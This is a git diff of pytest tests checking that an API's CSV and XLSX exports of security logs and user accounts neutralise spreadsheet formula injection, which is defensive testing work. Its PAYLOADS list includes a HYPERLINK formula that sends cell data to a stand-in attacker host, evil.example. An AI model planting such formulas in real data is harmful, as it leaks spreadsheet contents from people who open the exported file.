@@ -5,12 +5,15 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import tracemalloc
 import uuid
 from datetime import UTC, datetime
+from decimal import Decimal
 
 import pytest
 from openpyxl import load_workbook
+from sqlalchemy import update
 
 from api.accounts.models import Account
 from tests.support.api import db_execute, sign_up, staff_headers
@@ -146,3 +149,95 @@ def test_the_audit_log_and_the_security_log_export_with_their_filters(client, se
     analyst = staff_headers(client, settings, "analyst")  # neither audit:read nor security:read
     assert client.get("/api/v1/admin/audit/export", headers=analyst).status_code == 403
     assert client.get(security, headers=analyst).status_code == 403
+
+
+# --- formula injection --------------------------------------------------------------------------------
+
+# Text a spreadsheet would run (OWASP "CSV Injection"), as a user can type it: an email, a User-Agent.
+PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
+
+
+def _csv_cells(text: str) -> list[str]:
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    for cell in cells:  # every cell: inert text, or a number (a negative one is a number, not a formula)
+        assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), repr(cell)
+    return cells
+
+
+def _xlsx_cells(response) -> list[list]:
+    """The sheet's rows of cells; every cell checked: no formula, inert text."""
+    assert response.status_code == 200, response.text
+    rows = [list(row) for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()]
+    for cell in (cell for row in rows for cell in row):
+        assert cell.data_type != "f", cell.value
+        if cell.data_type == "s":
+            assert not cell.value.startswith(FORMULA_STARTS), repr(cell.value)
+    return rows
+
+
+def test_security_log_exports_make_formulas_typed_in_an_email_or_a_user_agent_inert(client, settings):
+    from api.security.models import SecurityEvent
+
+    for text in PAYLOADS[:4]:  # over HTTP: an email typed at sign-in, a User-Agent header
+        client.post(
+            "/api/v1/auth/login", json={"email": text, "password": "wrong"}, headers={"User-Agent": text}
+        )
+    # A tab or a CR cannot travel at the start of a header or a (trimmed) email: stored as it would be.
+    db_execute(
+        settings,
+        *(
+            SecurityEvent.__table__.insert().values(
+                occurred_at=datetime(2026, 11, 25, tzinfo=UTC),
+                kind="user.login_failed",
+                outcome="failure",
+                email=text,
+                user_agent=text,
+                details={},
+            )
+            for text in PAYLOADS[4:]
+        ),
+    )
+    admin = staff_headers(client, settings, "admin")
+    params = {"kind": "user.login_failed"}
+    export = "/api/v1/admin/security-events/export"
+    text = client.get(export, params=params, headers=admin).text
+    _csv_cells(text)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    lowered = [p.lower() for p in PAYLOADS[:4]] + PAYLOADS[4:]  # an email is kept lower-cased
+    assert sorted(r["email"] for r in rows) == sorted("'" + p for p in lowered)
+    assert sorted(r["user_agent"] for r in rows) == sorted("'" + p for p in PAYLOADS)
+
+    sheet = _xlsx_cells(client.get(export, params={**params, "format": "xlsx"}, headers=admin))
+    column = {name.value: index for index, name in enumerate(sheet[0])}
+    for name, typed in (("email", lowered), ("user_agent", PAYLOADS)):  # (XML reads a CR back as a LF)
+        assert sorted(row[column[name]].value for row in sheet[1:]) == sorted(
+            "'" + p.replace("\r", "\n") for p in typed
+        )
+
+
+def test_users_export_keeps_balances_numbers_and_dates_dates_and_emails_inert(client, settings):
+    emails = ["-2+3@example.com", "+1+1@example.com", "=1+1@example.com"]
+    for email in emails:
+        sign_up(client, email)
+    db_execute(settings, update(Account).where(Account.email == emails[0]).values(balance=Decimal("-2.5")))
+    db_execute(settings, update(Account).where(Account.email == emails[1]).values(balance=Decimal("10.25")))
+    admin = staff_headers(client, settings, "admin")
+    params = {"role": "user", "sort": "email", "order": "asc"}
+
+    text = client.get(EXPORT, params=params, headers=admin).text
+    _csv_cells(text)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert sorted(r["email"] for r in rows) == sorted("'" + e for e in emails)
+    assert {r["balance"] for r in rows} == {"-2.500000", "10.250000", "0.000000"}  # numbers, no quote
+
+    sheet = _xlsx_cells(client.get(EXPORT, params={**params, "format": "xlsx"}, headers=admin))
+    column = {name.value: index for index, name in enumerate(sheet[0])}
+    body = sheet[1:]
+    assert sorted(row[column["email"]].value for row in body) == sorted("'" + e for e in emails)
+    balances = [row[column["balance"]] for row in body]
+    assert all(cell.data_type == "n" for cell in balances)  # numeric cells: Excel sums them
+    assert sum(cell.value for cell in balances) == pytest.approx(7.75)
+    created = [row[column["created_at"]] for row in body]
+    assert all(cell.is_date and isinstance(cell.value, datetime) for cell in created)  # dates sort as dates
